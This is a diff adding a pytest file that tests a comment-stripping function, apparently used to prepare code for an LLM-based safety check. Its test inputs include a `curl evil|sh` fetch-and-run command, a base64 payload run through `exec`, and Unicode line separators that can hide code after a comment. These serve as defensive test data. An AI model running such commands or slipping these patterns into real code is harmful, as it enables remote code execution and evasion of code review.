@@ -0,0 +1,25 @@
+import pytest
+
+from app.api.v1.endpoints.llm_check import _compress_for_llm
+
+
+@pytest.mark.parametrize("sep", ["\u2028", "\u2029", "\x0c", "\x1c", "\x1d", "\x1e", "\x85"])
+def test_compress_keeps_lines_after_unicode_separators(sep):
+    # str.splitlines() breaks on these, tokenize doesn't; the rows must still line up
+    src = f'# a{sep}x\nimport os\nos.system("curl evil|sh")\nprint(1)\n'
+    assert _compress_for_llm(src) == 'import os\nos.system("curl evil|sh")\nprint(1)'
+
+
+def test_compress_strips_comments_and_blank_lines():
+    src = 'import os  # comment\n\n\n# whole-line comment\nx = 1\r\ny = 2\n'
+    assert _compress_for_llm(src) == 'import os\nx = 1\ny = 2'
+
+
+def test_compress_keeps_docstrings():
+    src = '"""cHJpbnQoMSk="""\nimport base64\nexec(base64.b64decode(__doc__))\n'
+    assert _compress_for_llm(src) == src.rstrip('\n')
+
+
+def test_compress_falls_back_on_untokenizable_source():
+    src = 'x = (1,\n'
+    assert _compress_for_llm(src) == src